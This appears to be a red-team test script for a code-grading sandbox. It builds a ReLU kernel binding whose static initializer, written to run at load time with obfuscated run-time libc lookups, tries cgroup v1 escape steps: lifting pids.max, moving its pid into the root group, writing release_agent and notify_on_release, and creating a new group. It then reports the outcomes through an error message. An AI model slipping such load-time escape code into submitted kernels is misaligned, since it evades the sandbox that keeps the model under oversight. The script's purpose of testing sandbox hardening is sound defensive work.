"""c1: the pids cgroup from inside the candidate (cgroup v1 here, /sys/fs/cgroup/pids, readable under the
read rules). A static initializer (libc resolved at run time) tries: its own group's pids.max -> "max"
(lift the cap), its pid into the root group's cgroup.procs (leave the cap), mkdir of a new group,
release_agent / notify_on_release (the v1 escape to a root program on the host). It reports every
errno by raising from its first forward call (the reason is its own text). Anything but EACCES/EPERM
is a finding. MODE: probe | control (no probe; same raise)."""
import sys
from common import *
mode = sys.argv[1] if len(sys.argv) > 1 else "probe"
BINDING = r'''
#include "binding_registry.h"
#include <cstdint>
#include <string>
extern "C" void relu_kernel(const float* x, float* y, int64_t n);
RESOLVER
using Open = int (*)(const char*, int, ...); using Write = long (*)(int, const void*, unsigned long);
using Read = long (*)(int, void*, unsigned long); using Close = int (*)(int); using Mkdir = int (*)(const char*, unsigned);
using Errno = int* (*)(); using Getpid = int (*)();
static std::string g_log;
static void probe() {
  auto p_open = (Open)resolve("OPEN_"); auto p_write = (Write)resolve("WRITE_"); auto p_read = (Read)resolve("READ_");
  auto p_close = (Close)resolve("CLOSE_"); auto p_mkdir = (Mkdir)resolve("MKDIR_"); auto p_errno = (Errno)resolve("ERRNO_");
  auto p_getpid = (Getpid)resolve("GETPID_");
  std::string pid = std::to_string(p_getpid());
  // own group from /proc/self/cgroup
  char buf[4096] = {0}; std::string group;
  int fd = p_open("/proc/self/cgroup", 0);
  if (fd >= 0) { long n = p_read(fd, buf, sizeof(buf) - 1); p_close(fd); if (n > 0) buf[n] = 0;
    std::string s(buf); auto at = s.find(":pids:"); if (at != std::string::npos) { auto e = s.find('\n', at); group = s.substr(at + 6, e - at - 6); } }
  g_log += "own=" + group + ";";
  auto try_write = [&](const std::string& path, const std::string& what) {
    int f = p_open(path.c_str(), 1 /*O_WRONLY*/);
    if (f < 0) { g_log += path + ":open_errno=" + std::to_string(*p_errno()) + ";"; return; }
    long w = p_write(f, what.data(), what.size());
    g_log += path + ":write=" + std::to_string(w) + (w < 0 ? "/errno=" + std::to_string(*p_errno()) : std::string()) + ";";
    p_close(f);
  };
  std::string root = "/sys/fs/cgroup/pids";
  try_write(root + group + "/pids.max", "max");
  try_write(root + "/cgroup.procs", pid);
  try_write(root + "/tasks", pid);
  try_write(root + "/release_agent", "/bin/true");
  try_write(root + group + "/notify_on_release", "1");
  int m = p_mkdir((root + "/rt7-escape").c_str(), 0755);
  g_log += "mkdir=" + std::to_string(m) + (m < 0 ? "/errno=" + std::to_string(*p_errno()) : std::string()) + ";";
  // where am I now
  fd = p_open("/proc/self/cgroup", 0);
  if (fd >= 0) { long n = p_read(fd, buf, sizeof(buf) - 1); p_close(fd); if (n > 0) buf[n] = 0; std::string s(buf); auto at = s.find(":pids:"); if (at != std::string::npos) g_log += "now=" + s.substr(at + 6, s.find('\n', at) - at - 6) + ";"; }
  int pm = p_open((root + group + "/pids.max").c_str(), 0);
  if (pm >= 0) { long n = p_read(pm, buf, 64); p_close(pm); if (n > 0) { buf[n] = 0; g_log += std::string("pids.max=") + buf; } }
}
static int g_done = (PROBE ? (probe(), 1) : 0);
at::Tensor relu_forward(const at::Tensor& x) {
  TORCH_CHECK(false, "RT7C1 ", g_log);
  return x;
}
REGISTER_BINDING(relu, relu_forward)
'''.replace("PROBE", "1" if mode == "probe" else "0").replace("RESOLVER", RESOLVER)
for k, v in {"OPEN_": "open", "WRITE_": "write", "READ_": "read", "CLOSE_": "close", "MKDIR_": "mkdir",
             "ERRNO_": "__errno_location", "GETPID_": "getpid"}.items():
    BINDING = BINDING.replace('"%s"' % k, '"%s"' % enc(v))
res = run(f"c1_cgroup_escape_{mode}", RELU_MODEL_NEW, {"relu.cpp": RELU_KERNEL, "relu_binding.cpp": BINDING}, note=mode)
import re
m = re.search(r"RT7C1 ([^\n]*)", res.reason or "")
record(name=f"c1_cgroup_escape_{mode}_summary", reward=res.reward, probe=m.group(1) if m else None, leftovers=leftovers())
